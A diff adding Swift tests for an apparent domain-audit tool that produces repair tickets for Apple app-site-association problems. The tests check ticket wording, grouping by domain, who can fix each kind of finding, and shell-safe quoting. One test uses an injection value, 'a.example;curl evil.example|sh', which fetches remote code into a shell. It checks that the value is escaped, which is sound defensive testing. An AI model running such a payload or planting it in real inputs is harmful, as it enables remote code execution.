@@ -1,0 +1,87 @@
+import Findings
+import Testing
+import Transport
+
+@testable import Audit
+@testable import Reports
+
+/// The words to send to whoever can mend something.
+@Suite struct HTMLTicketTests {
+    @Test func ticketStandsForItself() {
+        let text = TicketText(Estate.redirect(3), past: nil, runAt: Samples.now).lines.joined(separator: "\n")
+        #expect(text.hasPrefix("travel-3.example: links open the browser instead of the app on every Apple system\n"))
+        for part in [
+            "[redirect]", "Impact: ", "What to do: ", "On nginx:", "   Owner: Ada Lovelace",
+            "The work is for whoever configures the web server or the CDN in front of it.",
+            "After the repair: Run “aasa-audit travel-3.example” again", "root /var/www/travel-3.example;",
+            "curl -sS -i 'https://travel-3.example/.well-known/apple-app-site-association'",
+            "return 301 https://www.travel-3.example$request_uri;",
+        ] {
+            #expect(text.contains(part), "\(part)")
+        }
+    }
+
+    @Test func oneRepairHasOneTicketForAllItsDomains() throws {
+        let page = try PageSink.page(Estate(Estate.typical(300)))
+        let names = try #require(page.firstMatch(of: #/id="repair-1" [^>]*data-names="([^"]*)">all (\d+)</#))
+        #expect(names.1.split(separator: "\n").count == Int(names.2))
+        let ticket = try #require(page.firstMatch(of: #/<summary>One ticket<\/summary><pre tabindex="0">([^<]*)</#)).1
+        for name in names.1.split(separator: "\n") { #expect(ticket.contains("- \(name)&#10;")) }
+        #expect(ticket.contains("Who can fix it: ") && ticket.contains("What to do, at "))
+        let all = names.1.split(separator: "\n").joined(separator: " ")
+        let code = try #require(ticket.firstMatch(of: #/\[([a-z-]+)\]/#)).1
+        let proof = "Fixed when: a new run finds \(code) at none of the \(names.2) domains"
+        #expect(ticket.contains("\(proof): “aasa-audit \(all)”."), "\(ticket)")
+        let many = try PageSink.page(Estate(Estate.typical(600)))
+        #expect(
+            many.contains(
+                #/Fixed when: a new run finds [a-z-]+ at none of the 20 domains; for a first look: “aasa-audit /#))
+    }
+
+    /// A certificate that ends soon is no error: that there is none does not show that it was renewed.
+    @Test func aTicketIsNotFixedBeforeAnythingWasDone() throws {
+        let page = try PageSink.page(Estate((0..<3).map { Estate.warned($0) }))
+        let ticket = try #require(page.firstMatch(of: #/<summary>One ticket<\/summary><pre tabindex="0">([^<]*)</#)).1
+        #expect(
+            ticket.contains("Fixed when: a new run finds tls-certificate-expiring at none of the 3 domains: “"),
+            "\(ticket)")
+    }
+
+    /// A stored report can name a domain in any way, and the brackets of an address mean something to a shell.
+    @Test(arguments: [
+        (DomainID(host: "2001:db8::1", port: 8443), "'[2001:db8::1]:8443'"), (DomainID(host: "a.example"), "a.example"),
+        (
+            DomainID(host: "a.example", displayHost: "a.example;curl evil.example|sh"),
+            "'a.example;curl evil.example|sh'"
+        ),
+        (DomainID(host: "a.example", displayHost: "$(it's)"), #"'$(it'\''s)'"#),
+    ])
+    func aNameIsOneWordOfACommand(_ domain: DomainID, _ word: String) throws {
+        let reports = (0..<12).map { number in
+            var report = Estate.warned(number)
+            if number == 0 { report.domain = domain }
+            return report
+        }
+        #expect(RepairAdvice.check(reports[0]).hasPrefix("Run “aasa-audit \(word)” again: "))
+        for count in [2, 12] {
+            let page = try PageSink.page(Estate(Array(reports.prefix(count))))
+            let ticket = try #require(page.firstMatch(of: #/<summary>One ticket<\/summary><pre tabindex="0">([^<]*)</#))
+                .1
+            #expect(ticket.contains("“aasa-audit \(EscapedText.escape(word)) "), "\(ticket)")
+        }
+    }
+
+    /// Who can fix it is said alike in lists, tickets and on the domain: a file that is too large is its author's work.
+    @Test func namesWhoCanFixThisKindOfFinding() throws {
+        let reports = (0..<2).map { number in
+            var report = Estate.brokenFile(number)
+            report.findings = [Finding(.fileOversized, location: .wellKnown, message: "Too large.")]
+            (report.owner, report.team, report.contact) = ("Dana", nil, nil)
+            return report
+        }
+        let page = try PageSink.page(Estate(reports))
+        let ticket = try #require(page.firstMatch(of: #/<summary>One ticket<\/summary><pre tabindex="0">([^<]*)</#)).1
+        #expect(ticket.contains("Who can fix it: Whoever writes the association file"), "\(ticket)")
+        #expect(!page.contains("Whoever configures the web server or the CDN in front of it"))
+    }
+}
